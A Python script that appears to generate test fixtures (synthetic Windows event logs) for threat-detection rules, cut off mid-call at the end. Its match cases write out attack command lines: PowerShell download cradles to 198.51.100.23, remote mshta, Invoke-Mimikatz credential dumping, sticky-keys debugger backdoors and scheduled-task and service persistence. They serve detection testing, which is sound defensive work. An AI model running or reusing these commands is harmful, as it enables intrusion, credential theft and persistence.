#!/usr/bin/env python3
"""Rule fixtures (NXLog im_msvistalog JSON, one record per line) for the execution, persistence, discovery,
command-and-control and impact rules added with the rule-library growth: each case is a golden-corpus raw record
(detection-kb/src/test/resources/raw/nxlog/corpus_*.json) with a few fields changed, as
gen_fixtures_exec_persist_evasion_c2.py does. Deterministic; run from the repository root:

    python3 sample-events/tools/gen_fixtures_exec_persist_disc_c2_impact.py
"""
from fixture_records import base, rec, write


def sysmon1(time, image, cmd, parent_image, parent_cmd, original=None, description=None, pid='4412', guid_tail='4412',
            user=None):
    name = image.rsplit('\\', 1)[-1]
    fields = dict(EventTime=time, UtcTime=time + '.250',
                  ProcessGuid='{6f3c1a2b-8eb9-6383-b1f4-0000000%s}' % guid_tail, ProcessId=pid,
                  Image=image, CommandLine=cmd, ParentImage=parent_image, ParentCommandLine=parent_cmd,
                  OriginalFileName=original or name, Description=description or name)
    if user:
        fields['User'] = user
    return rec('sysmon_1', **fields)


def sec4688(time, image, cmd, parent_image):
    return rec('security_4688', EventTime=time, NewProcessName=image, CommandLine=cmd, ParentProcessName=parent_image)


def sysmon3(time, image, ip, port, host='-', port_name='-'):
    return rec('sysmon_3', EventTime=time, UtcTime=time + '.275', Image=image, DestinationIp=ip,
               DestinationPort=port, DestinationHostname=host, DestinationPortName=port_name)


def sysmon11(time, image, target):
    return rec('sysmon_11', EventTime=time, UtcTime=time + '.379', Image=image, TargetFilename=target)


def sysmon13(time, image, target, details):
    return rec('sysmon_13', EventTime=time, UtcTime=time + '.654', Image=image, TargetObject=target, Details=details)


def sysmon22(time, image, query, results):
    return rec('sysmon_22', EventTime=time, UtcTime=time + '.896', Image=image, QueryName=query, QueryResults=results)


def sb(text, time='2026-11-17 09:37:14', path=''):
    return rec('powershell_4104', EventTime=time, ScriptBlockText=text, Path=path,
               message='Creating Scriptblock text (1 of 1):\r\n' + text + '\r\n\r\nScriptBlock ID: '
               'c9e7a0d5-1f3b-4e6a-9d2c-8b7a6f5e4d3c\r\nPath: ' + path)


PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
CMD = 'C:\\Windows\\System32\\cmd.exe'
EXPLORER = 'C:\\Windows\\explorer.exe'
MSHTA = 'C:\\Windows\\System32\\mshta.exe'
WSCRIPT = 'C:\\Windows\\System32\\wscript.exe'
CSCRIPT = 'C:\\Windows\\System32\\cscript.exe'
WMIC = 'C:\\Windows\\System32\\wbem\\WMIC.exe'
SCHTASKS = 'C:\\Windows\\System32\\schtasks.exe'
SC = 'C:\\Windows\\System32\\sc.exe'
BITSADMIN = 'C:\\Windows\\System32\\bitsadmin.exe'
REG = 'C:\\Windows\\System32\\reg.exe'
NLTEST = 'C:\\Windows\\System32\\nltest.exe'
SVCHOST = 'C:\\Windows\\System32\\svchost.exe'
RUNDLL32 = 'C:\\Windows\\System32\\rundll32.exe'
REGSVR32 = 'C:\\Windows\\System32\\regsvr32.exe'
MSBUILD = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe'
CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'
EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'
HKU_JDOE = 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1107'
IFEO = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\'
WINLOGON = '\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\'


def ps_start(time, cmd, parent=CMD, parent_cmd='cmd.exe', **kw):
    return sysmon1(time, PS, cmd, parent, parent_cmd, original='PowerShell.EXE', description='Windows PowerShell', **kw)


# --- process_creation/execution_hidden_powershell
D = 'process_creation/execution_hidden_powershell/'
HIDDEN = 'powershell.exe -NoP -NonI -W Hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\sync.ps1'
write(D + 'match/sysmon1_nop_noni_w_hidden_bypass_file.json', ps_start('2026-11-17 10:02:11', HIDDEN))
write(D + 'match/sysmon1_and_security4688_win_1_twins.ndjson',
      ps_start('2026-11-17 10:02:40', 'powershell -win 1 -nop -ep bypass -c "& C:\\ProgramData\\svc\\run.ps1"'),
      sec4688('2026-11-17 10:02:40', PS, 'powershell -win 1 -nop -ep bypass -c "& C:\\ProgramData\\svc\\run.ps1"', CMD))
write(D + 'match/security4688_w_h.json',
      sec4688('2026-11-17 10:03:05', PS, '"' + PS + '" -w h -c "Start-Sleep 5; & $env:APPDATA\\u.ps1"', CMD))
# -w hidden with a download cradle: one alert, from the cradle rule (see its fixtures), none from this one.
write(D + 'nomatch/sysmon1_windowstyle_minimized.json',
      ps_start('2026-11-17 10:03:30', 'powershell.exe -NoProfile -WindowStyle Minimized -File C:\\Scripts\\Inventory.ps1'))
write(D + 'nomatch/sysmon1_whatif_switch.json',
      ps_start('2026-11-17 10:03:31', 'powershell.exe -c "Remove-Item C:\\Temp\\old -Recurse -WhatIf"'))
write(D + 'nomatch/sysmon1_cmd_window_hidden_text.json',
      sysmon1('2026-11-17 10:03:32', CMD, 'cmd.exe /c echo -w hidden > C:\\Temp\\note.txt', EXPLORER, EXPLORER,
              original='Cmd.Exe'))

# --- process_creation/execution_powershell_download_cradle
D = 'process_creation/execution_powershell_download_cradle/'
CRADLE = 'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.23/a.ps1\')"'
write(D + 'match/sysmon1_iex_downloadstring.json', ps_start('2026-11-17 10:05:00', CRADLE))
write(D + 'match/security4688_iwr_pipe_iex.json',
      sec4688('2026-11-17 10:05:10', PS, 'powershell -c "iwr -UseBasicParsing https://198.51.100.23/s | iex"', CMD))
write(D + 'match/sysmon1_cmd_and_powershell_child_hidden.ndjson',
      sysmon1('2026-11-17 10:05:20', CMD, 'cmd.exe /c powershell -w hidden -nop -c "IEX (irm https://198.51.100.23/b)"',
              EXPLORER, EXPLORER, original='Cmd.Exe', pid='4410', guid_tail='4410'),
      ps_start('2026-11-17 10:05:20', 'powershell  -w hidden -nop -c "IEX (irm https://198.51.100.23/b)"',
               parent_cmd='cmd.exe /c powershell -w hidden -nop -c "IEX (irm https://198.51.100.23/b)"'))
write(D + 'match/sysmon1_start_bitstransfer.json',
      ps_start('2026-11-17 10:05:30', 'powershell -c "Start-BitsTransfer -Source https://198.51.100.23/u.exe -Destination $env:TEMP\\u.exe; & $env:TEMP\\u.exe"'))
write(D + 'nomatch/sysmon1_iwr_outfile_intranet.json',
      ps_start('2026-11-17 10:05:40', 'powershell.exe -c "Invoke-WebRequest https://intranet.corp.example.org/report.csv -OutFile C:\\Reports\\r.csv"'))
write(D + 'nomatch/security4688_iex_local_file.json',
      sec4688('2026-11-17 10:05:41', PS, 'powershell -c "Get-Content .\\steps.txt | ForEach-Object { Invoke-Expression $_ }"', CMD))
write(D + 'nomatch/sysmon1_curl_exe_download.json',
      sysmon1('2026-11-17 10:05:42', 'C:\\Windows\\System32\\curl.exe', 'curl.exe -o C:\\Temp\\tool.zip https://downloads.example-vendor.com/tool.zip',
              CMD, 'cmd.exe', original='curl.exe'))

# --- process_creation/execution_mshta_remote_or_inline_script
D = 'process_creation/execution_mshta_remote_or_inline_script/'
write(D + 'match/sysmon1_mshta_https_url.json',
      sysmon1('2026-11-17 10:07:00', MSHTA, 'mshta.exe https://198.51.100.23/update.hta', EXPLORER, EXPLORER,
              original='MSHTA.EXE', description='Microsoft (R) HTML Application host'))
write(D + 'match/security4688_mshta_vbscript_inline.json',
      sec4688('2026-11-17 10:07:10', MSHTA, 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""C:\\Users\\Public\\p.exe"":close")', CMD))
write(D + 'match/sysmon1_mshta_hta_in_downloads.json',
      sysmon1('2026-11-17 10:07:20', MSHTA, '"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\jdoe\\Downloads\\invoice_8841.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}',
              EXPLORER, EXPLORER, original='MSHTA.EXE', description='Microsoft (R) HTML Application host'))
write(D + 'nomatch/sysmon1_mshta_program_files_hta.json',
      sysmon1('2026-11-17 10:07:30', MSHTA, '"C:\\Windows\\System32\\mshta.exe" "C:\\Program Files (x86)\\Contoso\\Setup\\autorun.hta"',
              EXPLORER, EXPLORER, original='MSHTA.EXE'))
write(D + 'nomatch/sysmon1_mshta_embedding.json',
      sysmon1('2026-11-17 10:07:31', MSHTA, 'C:\\Windows\\System32\\mshta.exe -Embedding', SVCHOST,
              'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p', original='MSHTA.EXE'))

# --- process_creation/execution_script_host_user_writable_script
D = 'process_creation/execution_script_host_user_writable_script/'
write(D + 'match/sysmon1_wscript_js_in_zip_extraction_folder.json',
      sysmon1('2026-11-17 10:09:00', WSCRIPT,
              '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\jdoe\\AppData\\Local\\Temp\\Temp1_Invoice_8841.zip\\Invoice_8841.js"',
              EXPLORER, EXPLORER, original='wscript.exe', description='Microsoft (r) Windows Based Script Host'))
write(D + 'match/security4688_cscript_vbs_in_downloads.json',
      sec4688('2026-11-17 10:09:10', CSCRIPT, 'cscript.exe //nologo C:\\Users\\jdoe\\Downloads\\scan_0412.vbs', EXPLORER))
write(D + 'match/sysmon1_wscript_jse_windows_temp.json',
      sysmon1('2026-11-17 10:09:20', WSCRIPT, 'wscript.exe /b C:\\Windows\\Temp\\upd.jse', SVCHOST,
              'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', original='wscript.exe'))
write(D + 'nomatch/sysmon1_wscript_netlogon_logon_script.json',
      sysmon1('2026-11-17 10:09:30', WSCRIPT, 'wscript.exe \\\\corp.example.org\\NETLOGON\\logon.vbs',
              'C:\\Windows\\System32\\userinit.exe', 'C:\\Windows\\system32\\userinit.exe', original='wscript.exe'))
write(D + 'nomatch/security4688_cscript_slmgr.json',
      sec4688('2026-11-17 10:09:31', CSCRIPT, 'cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli', CMD))
write(D + 'nomatch/sysmon1_wscript_downloads_pdf_name.json',
      sysmon1('2026-11-17 10:09:32', WSCRIPT, 'wscript.exe "C:\\Users\\jdoe\\Documents\\Tools\\mapdrives.vbs"', EXPLORER,
              EXPLORER, original='wscript.exe'))

# --- process_creation/execution_wmic_process_call_create
D = 'process_creation/execution_wmic_process_call_create/'
write(D + 'match/sysmon1_wmic_node_process_call_create.json',
      sysmon1('2026-11-17 10:11:00', WMIC,
              'wmic /node:10.20.0.31 /user:CORP\\adm_jdoe process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"',
              CMD, 'cmd.exe', original='wmic.exe', description='WMI Commandline Utility'))
write(D + 'match/security4688_wmic_local_create.json',
      sec4688('2026-11-17 10:11:10', WMIC, 'wmic.exe process call create "C:\\ProgramData\\svc\\svc.exe"', CMD))
write(D + 'match/sysmon1_renamed_wmic_path_win32_process.json',
      sysmon1('2026-11-17 10:11:20', 'C:\\Users\\Public\\wm.exe', 'wm.exe path win32_process call create calc.exe',
              CMD, 'cmd.exe', original='wmic.exe', description='WMI Commandline Utility'))
write(D + 'nomatch/sysmon1_wmic_process_list.json',
      sysmon1('2026-11-17 10:11:30', WMIC, 'wmic process list brief', CMD, 'cmd.exe', original='wmic.exe'))
write(D + 'nomatch/security4688_wmic_call_terminate.json',
      sec4688('2026-11-17 10:11:31', WMIC, 'wmic process where name="notepad.exe" call terminate', CMD))

# --- powershell/execution_powershell_version2_downgrade
D = 'powershell/execution_powershell_version2_downgrade/'


def engine_start(time, version, host_app, record='48301'):
    r = base('powershell_400')
    m = r['Message'].replace('HostVersion=5.1.19041.3996', 'HostVersion=' + version)
    m = m.replace('EngineVersion=5.1.19041.3996', 'EngineVersion=' + version)
    start = m.index('HostApplication=') + len('HostApplication=')
    m = m[:start] + host_app + m[m.index('\r\n', start):]
    r['Message'] = m
    r['EventTime'] = r['EventReceivedTime'] = time
    r['RecordNumber'] = int(record)
    return r


write(D + 'match/powershell400_engine_2_0.json',
      engine_start('2026-11-17 10:13:00', '2.0', PS + ' -Version 2 -nop -c IEX $env:P'))
write(D + 'match/sysmon1_version_2_and_engine_start.ndjson',
      ps_start('2026-11-17 10:13:20', 'powershell.exe -version 2 -ExecutionPolicy Bypass -File C:\\Users\\Public\\a.ps1'),
      engine_start('2026-11-17 10:13:21', '2.0', 'powershell.exe -version 2 -ExecutionPolicy Bypass -File C:\\Users\\Public\\a.ps1'))
write(D + 'match/security4688_v_2.json',
      sec4688('2026-11-17 10:13:40', PS, 'powershell -v 2 -c "Get-Host"', CMD))
write(D + 'nomatch/powershell400_engine_5_1.json',
      engine_start('2026-11-17 10:13:50', '5.1.19041.3996', PS + ' -NoProfile -File C:\\Scripts\\Inventory.ps1'))
write(D + 'nomatch/sysmon1_verbose_switch.json',
      ps_start('2026-11-17 10:13:51', 'powershell.exe -NoProfile -File C:\\Scripts\\check.ps1 -Verbose 2'))

# --- powershell/execution_offensive_cmdlet_module_logging
D = 'powershell/execution_offensive_cmdlet_module_logging/'


def module_log(time, command, payload, record='48401'):
    r = base('powershell_4103')
    ctx = r['ContextInfo'].replace('Command Name = New-Object', 'Command Name = ' + command)
    ctx = ctx.replace('Command Type = Cmdlet', 'Command Type = Function')
    msg = r['Message'].replace(r['Payload'], payload).replace(r['ContextInfo'], ctx)
    r.update(EventTime=time, EventReceivedTime=time, ContextInfo=ctx, Payload=payload, Message=msg,
             RecordNumber=int(record))
    return r


write(D + 'match/invoke_mimikatz.json',
      module_log('2026-11-17 10:15:00', 'Invoke-Mimikatz',
                 'CommandInvocation(Invoke-Mimikatz): "Invoke-Mimikatz"\r\nParameterBinding(Invoke-Mimikatz): name="Command"; value="sekurlsa::logonpasswords"\r\n'))
write(D + 'match/powerview_get_domainuser_twice.ndjson',
      module_log('2026-11-17 10:15:10', 'Get-DomainUser',
                 'CommandInvocation(Get-DomainUser): "Get-DomainUser"\r\nParameterBinding(Get-DomainUser): name="SPN"; value="True"\r\n'),
      module_log('2026-11-17 10:15:12', 'Get-DomainUser',
                 'CommandInvocation(Get-DomainUser): "Get-DomainUser"\r\nParameterBinding(Get-DomainUser): name="AdminCount"; value="True"\r\n',
                 record='48402'))
write(D + 'nomatch/get_netadapter.json',
      module_log('2026-11-17 10:15:20', 'Get-NetAdapter',
                 'CommandInvocation(Get-NetAdapter): "Get-NetAdapter"\r\nParameterBinding(Get-NetAdapter): name="Physical"; value="True"\r\n'))
write(D + 'nomatch/corpus_new_object_webclient.json', base('powershell_4103'))

# --- registry_event/persistence_run_key_value_set: the default value of ...\Run as "\Run\" (empty name)
D = 'registry_event/persistence_run_key_value_set/'
write(D + 'match/sysmon13_hku_run_empty_value_name.json',
      sysmon13('2026-11-17 10:17:00', REG, HKU_JDOE + '\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\',
               'C:\\Users\\jdoe\\AppData\\Roaming\\svc\\svc.exe'))

# --- process_creation/persistence_scheduled_task_suspicious_action
D = 'process_creation/persistence_scheduled_task_suspicious_action/'


def task_xml(uri, command, arguments, author='CORP\\jdoe'):
    args = '\r\n      <Arguments>%s</Arguments>' % arguments if arguments else ''
    return ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
            '  <RegistrationInfo>\r\n    <Author>%s</Author>\r\n    <URI>%s</URI>\r\n  </RegistrationInfo>\r\n'
            '  <Triggers>\r\n    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n  </Triggers>\r\n'
            '  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>%s</Command>%s\r\n    </Exec>\r\n  </Actions>\r\n</Task>'
            % (author, uri, command, args))


def xml_escape(s):
    return s.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')


def task_event(kind, time, name, command, arguments, escaped=False, record='1920511', author='CORP\\jdoe'):
    """Security 4698 (created), 4699 (deleted) or 4702 (updated) of task `name` running `command arguments`."""
    xml = task_xml(name, xml_escape(command), xml_escape(arguments) if arguments else '', author=author)
    content = xml_escape(xml) if escaped else xml
    if kind == '4702':
        r = base('security_4702')
        old = r['TaskContentNew']
        r['Message'] = r['Message'].replace(old, content).replace(r['TaskName'], name)
        r['TaskContentNew'] = content
    else:
        r = base('security_4698')
        old = r['TaskContent']
        r['Message'] = r['Message'].replace(old, content).replace(r['TaskName'], name)
        r['TaskContent'] = content
        if kind == '4699':
            r['EventID'] = 4699
            r['Message'] = r['Message'].replace('A scheduled task was created.', 'A scheduled task was deleted.')
    r.update(EventTime=time, EventReceivedTime=time, TaskName=name, RecordNumber=int(record))
    return r


TR = '/TR "C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe /background"'
write(D + 'match/schtasks_4688_4698_106_one_task.ndjson',
      sysmon1('2026-11-17 09:34:32', SCHTASKS, 'schtasks.exe /Create /F /SC ONLOGON /TN OneDriveSync ' + TR,
              CMD, 'cmd.exe /c schtasks.exe /Create /F /SC ONLOGON /TN OneDriveSync ' + TR, original='schtasks.exe'),
      sec4688('2026-11-17 09:34:32', SCHTASKS, 'schtasks.exe /Create /F /SC ONLOGON /TN OneDriveSync ' + TR, CMD),
      rec('security_4698', EventTime='2026-11-17 09:34:33'),
      rec('taskscheduler_106', EventTime='2026-11-17 09:34:33'))
# As in the OTRF Empire schtasks recording: TaskScheduler 106 (no action) ahead of the schtasks start and the 4698.
write(D + 'match/taskscheduler106_ahead_of_schtasks_and_4698.ndjson',
      rec('taskscheduler_106', EventTime='2026-11-17 10:18:40', TaskName='\\MordorSchtask'),
      sysmon1('2026-11-17 10:18:40', SCHTASKS,
              '"C:\\windows\\system32\\schtasks.exe" /Create /F /SC DAILY /ST 09:00 /TN MordorSchtask /TR "' + PS + ' -NonI -W hidden -c \\"Start-Sleep 1\\""',
              PS, PS, original='schtasks.exe'),
      task_event('4698', '2026-11-17 10:18:42', '\\MordorSchtask', PS, '-NonI -W hidden -c "Start-Sleep 1"'))
write(D + 'match/security4698_escaped_xml_powershell_hidden.json',
      task_event('4698', '2026-11-17 10:19:00', '\\MordorSchtask', PS,
                 '-NonI -W hidden -c "IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion debug).debug)))"',
                 escaped=True))
write(D + 'match/security4702_action_changed_to_cmd.json',
      task_event('4702', '2026-11-17 10:19:20', '\\Contoso\\NightlyReport', 'C:\\Windows\\System32\\cmd.exe',
                 '/c C:\\Users\\Public\\r.bat'))
write(D + 'match/sysmon1_schtasks_tr_powershell_quoted_folder_name.json',
      sysmon1('2026-11-17 09:40:02', SCHTASKS,
              'schtasks  /create /ru SYSTEM /sc minute /mo 30 /tn "\\Microsoft Updates\\Sync Helper" /tr "powershell -w hidden -f C:\\ProgramData\\s.ps1"',
              CMD, 'cmd.exe', original='schtasks.exe'))
write(D + 'nomatch/security4702_program_files_action.json',
      task_event('4702', '2026-11-17 10:19:40', '\\Contoso\\NightlyReport',
                 'C:\\Program Files\\Contoso\\Reports\\report.exe', '--nightly'))
write(D + 'nomatch/security4702_program_files_action_user_folder_argument.json',
      task_event('4702', '2026-11-17 10:19:43', '\\Contoso\\DocumentsBackup',
                 'C:\\Program Files\\Contoso\\Backup\\backup.exe', '--source C:\\Users\\jdoe\\Documents --quiet'))
write(D + 'nomatch/security4698_windows_task_rundll32.json',
      task_event('4698', '2026-11-17 10:19:41', '\\Microsoft\\Windows\\Customer Experience Improvement Program\\Consolidator',
                 '%windir%\\system32\\rundll32.exe', 'ceipdata.dll,CeipCollect', author='Microsoft Corporation'))
write(D + 'nomatch/security4699_powershell_task_deleted.json',
      task_event('4699', '2026-11-17 10:19:42', '\\MordorSchtask', PS, '-NonI -W hidden -c "Get-Date"'))

# --- process_creation/persistence_service_created_suspicious_binpath
D = 'process_creation/persistence_service_created_suspicious_binpath/'
write(D + 'match/sysmon1_sc_create_cmd_c.json',
      sysmon1('2026-11-17 10:21:00', SC, 'sc.exe create UpdaterSvc binPath= "cmd.exe /c C:\\Users\\Public\\u.bat" start= auto',
              CMD, 'cmd.exe', original='sc.exe', description='Service Control Manager Configuration Tool'))
write(D + 'match/security4688_sc_config_comspec.json',
      sec4688('2026-11-17 10:21:10', SC, 'sc  config Spooler binPath= "%COMSPEC% /c C:\\Windows\\Temp\\s.exe"', CMD))
write(D + 'match/sysmon1_new_service_appdata_binary.json',
      ps_start('2026-11-17 10:21:20', 'powershell -c "New-Service -Name WinSync -BinaryPathName C:\\Users\\jdoe\\AppData\\Local\\Temp\\ws.exe -StartupType Automatic"'))
write(D + 'nomatch/sysmon1_sc_create_program_files.json',
      sysmon1('2026-11-17 10:21:30', SC, 'sc.exe create VeeamSvc binPath= "C:\\Program Files\\Veeam\\svc.exe" start= auto',
              CMD, 'cmd.exe', original='sc.exe'))
write(D + 'nomatch/security4688_sc_config_start_disabled.json',
      sec4688('2026-11-17 10:21:31', SC, 'sc.exe config wuauserv start= disabled', CMD))
write(D + 'nomatch/sysmon1_sc_query.json',
      sysmon1('2026-11-17 10:21:32', SC, 'sc query state= all', CMD, 'cmd.exe', original='sc.exe'))

# --- file_event/persistence_startup_folder_file_created
D = 'file_event/persistence_startup_folder_file_created/'
STARTUP = 'C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\'
write(D + 'match/sysmon11_user_startup_vbs.json', sysmon11('2026-11-17 10:23:00', PS, STARTUP + 'updater.vbs'))
write(D + 'match/sysmon11_all_users_startup_lnk_twice.ndjson',
      sysmon11('2026-11-17 10:23:10', CMD, 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\svchost.lnk'),
      sysmon11('2026-11-17 10:23:12', CMD, 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\svchost.lnk'))
write(D + 'nomatch/sysmon11_startup_desktop_ini.json', sysmon11('2026-11-17 10:23:20', EXPLORER, STARTUP + 'desktop.ini'))
write(D + 'nomatch/sysmon11_start_menu_programs_shortcut.json',
      sysmon11('2026-11-17 10:23:21', 'C:\\Windows\\System32\\msiexec.exe',
               'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\7-Zip\\7-Zip File Manager.lnk'))

# --- registry_event/persistence_accessibility_ifeo_debugger
D = 'registry_event/persistence_accessibility_ifeo_debugger/'
write(D + 'match/sysmon13_sethc_debugger_cmd.json',
      sysmon13('2026-11-17 10:25:00', REG, IFEO + 'sethc.exe\\Debugger', 'C:\\Windows\\System32\\cmd.exe'))
write(D + 'match/sysmon13_utilman_debugger_and_osk.ndjson',
      sysmon13('2026-11-17 10:25:10', PS, IFEO + 'utilman.exe\\Debugger', 'C:\\Windows\\System32\\cmd.exe'),
      sysmon13('2026-11-17 10:25:11', PS, IFEO + 'osk.exe\\Debugger', 'C:\\Windows\\System32\\cmd.exe'))
write(D + 'nomatch/sysmon13_sethc_mitigation_options.json',
      sysmon13('2026-11-17 10:25:20', 'C:\\Windows\\System32\\svchost.exe', IFEO + 'sethc.exe\\MitigationOptions',
               'QWORD (0x00000000-0x00100000)'))
write(D + 'nomatch/sysmon13_developer_app_debugger.json',
      sysmon13('2026-11-17 10:25:21', 'C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe',
               IFEO + 'contoso.reports.exe\\Debugger', '"C:\\Windows\\system32\\vsjitdebugger.exe"'))

# --- file_event/persistence_accessibility_binary_replaced
D = 'file_event/persistence_accessibility_binary_replaced/'
write(D + 'match/sysmon11_sethc_written_by_cmd.json',
      sysmon11('2026-11-17 10:27:00', CMD, 'C:\\Windows\\System32\\sethc.exe'))
write(D + 'match/sysmon11_utilman_written_by_powershell.json',
      sysmon11('2026-11-17 10:27:10', PS, 'C:\\Windows\\System32\\Utilman.exe'))
write(D + 'nomatch/sysmon11_sethc_by_tiworker.json',
      sysmon11('2026-11-17 10:27:20', 'C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3990_none_7e4f0d4e3c5b1e2a\\TiWorker.exe',
               'C:\\Windows\\System32\\sethc.exe'))
write(D + 'nomatch/sysmon11_sethc_copy_in_downloads.json',
      sysmon11('2026-11-17 10:27:21', CHROME, 'C:\\Users\\jdoe\\Downloads\\sethc.exe'))

# --- registry_event/persistence_winlogon_userinit_shell_modified
D = 'registry_event/persistence_winlogon_userinit_shell_modified/'
write(D + 'match/sysmon13_hklm_userinit_appended.json',
      sysmon13('2026-11-17 10:29:00', REG, 'HKLM' + WINLOGON + 'Userinit',
               'C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\svc\\upd.exe,'))
write(D + 'match/sysmon13_hku_shell.json',
      sysmon13('2026-11-17 10:29:10', PS, HKU_JDOE + WINLOGON + 'Shell',
               'explorer.exe, C:\\Users\\jdoe\\AppData\\Roaming\\sh.exe'))
write(D + 'nomatch/sysmon13_userinit_default_rewritten.json',
      sysmon13('2026-11-17 10:29:20', 'C:\\Windows\\system32\\svchost.exe', 'HKLM' + WINLOGON + 'Userinit',
               'C:\\Windows\\system32\\userinit.exe,'))
write(D + 'nomatch/sysmon13_winlogon_autoadminlogon.json',
      sysmon13('2026-11-17 10:29:21', REG, 'HKLM' + WINLOGON + 'AutoAdminLogon', '0'))
write(D + 'nomatch/sysmon13_shell_default_explorer.json',
      sysmon13('2026-11-17 10:29:22', 'C:\\Windows\\system32\\svchost.exe', 'HKLM' + WINLOGON + 'Shell', 'explorer.exe'))

# --- process_creation/persistence_bits_job_notify_command
D = 'process_creation/persistence_bits_job_notify_command/'
write(D + 'match/sysmon1_setnotifycmdline_cmd.json',
      sysmon1('2026-11-17 10:31:00', BITSADMIN,
              'bitsadmin /SetNotifyCmdLine backdoor C:\\Windows\\System32\\cmd.exe "cmd.exe /c C:\\Users\\Public\\b.exe"',
              CMD, 'cmd.exe', original='bitsadmin.exe', description='BITS administration utility'))
write(D + 'match/security4688_setnotifycmdline_programdata.json',
      sec4688('2026-11-17 10:31:10', BITSADMIN, 'bitsadmin.exe /setnotifycmdline upd "C:\\ProgramData\\u.exe" NULL', CMD))
write(D + 'nomatch/sysmon1_setnotifycmdline_null.json',
      sysmon1('2026-11-17 10:31:20', BITSADMIN, 'bitsadmin /SetNotifyCmdLine upd NULL NULL', CMD, 'cmd.exe',
              original='bitsadmin.exe'))
write(D + 'nomatch/security4688_bitsadmin_list.json',
      sec4688('2026-11-17 10:31:21', BITSADMIN, 'bitsadmin /list /allusers /verbose', CMD))

# --- security/persistence_privileged_group_member_added
D = 'security/persistence_privileged_group_member_added/'
write(D + 'match/security4732_builtin_administrators.json', base('security_4732'))
write(D + 'match/security4728_domain_admins.json', base('security_4728'))
write(D + 'match/security4732_localized_administrateurs.json',
      rec('security_4732', Hostname='SRV-APP02.corp.example.org', TargetUserName='Administrateurs',
          MemberName='-', MemberSid='S-1-5-21-1004336348-1177238915-682003330-1001'))
write(D + 'nomatch/security4728_helpdesk_group.json',
      rec('security_4728', TargetUserName='HelpdeskUsers', TargetSid='S-1-5-21-3623811015-3361044348-30300820-1215'))
write(D + 'nomatch/security4756_all_staff_universal.json',
      rec('security_4756', TargetUserName='All Staff', TargetSid='S-1-5-21-3623811015-3361044348-30300820-1342'))

# --- process_creation/discovery_domain_trust_ad_tools
D = 'process_creation/discovery_domain_trust_ad_tools/'
write(D + 'match/sysmon1_nltest_domain_trusts.json',
      sysmon1('2026-11-17 10:33:00', NLTEST, 'nltest /domain_trusts /all_trusts', CMD, 'cmd.exe', original='nltestrk.exe',
              description='Microsoft® Logon Server Test Utility'))
write(D + 'match/security4688_adfind_objectcategory_person.json',
      sec4688('2026-11-17 10:33:10', 'C:\\Users\\Public\\AdFind.exe', 'AdFind.exe -f "(objectcategory=person)" > ad_users.txt', CMD))
write(D + 'match/sysmon1_renamed_adfind_trustdmp.json',
      sysmon1('2026-11-17 10:33:20', 'C:\\Users\\Public\\af.exe', 'af.exe -gcb -sc trustdmp', CMD, 'cmd.exe',
              original='AdFind.exe', description='Joeware ADFind'))
write(D + 'match/sysmon1_dsquery_computers.json',
      sysmon1('2026-11-17 10:33:30', 'C:\\Windows\\System32\\dsquery.exe', 'dsquery computer -limit 0', CMD, 'cmd.exe',
              original='dsquery.exe'))
write(D + 'nomatch/sysmon1_nltest_dsgetdc.json',
      sysmon1('2026-11-17 10:33:40', NLTEST, 'nltest /dsgetdc:corp.example.org', CMD, 'cmd.exe', original='nltestrk.exe'))
write(D + 'nomatch/sysmon1_net_group_domain_admins.json',
      sysmon1('2026-11-17 10:33:41', 'C:\\Windows\\System32\\net.exe', 'net group "domain admins" /domain', CMD, 'cmd.exe',
              original='net.exe'))
write(D + 'nomatch/security4688_nltest_dclist.json',
      sec4688('2026-11-17 10:33:42', NLTEST, 'nltest /dclist:corp.example.org', CMD))

# --- powershell/discovery_powerview_ad_enumeration
D = 'powershell/discovery_powerview_ad_enumeration/'
write(D + 'match/get_domainuser_spn.json',
      sb('Get-DomainUser -SPN | Select-Object samaccountname,serviceprincipalname', path=''))
write(D + 'match/invoke_sharefinder.json',
      sb('Invoke-ShareFinder -CheckShareAccess -Verbose | Out-File -Encoding ascii C:\\Users\\Public\\shares.txt'))
write(D + 'match/get_aduser_filter_star_two_blocks.ndjson',
      sb('Import-Module ActiveDirectory\r\nGet-ADUser -Filter * -Properties * | Export-Csv C:\\Users\\Public\\u.csv -NoTypeInformation'),
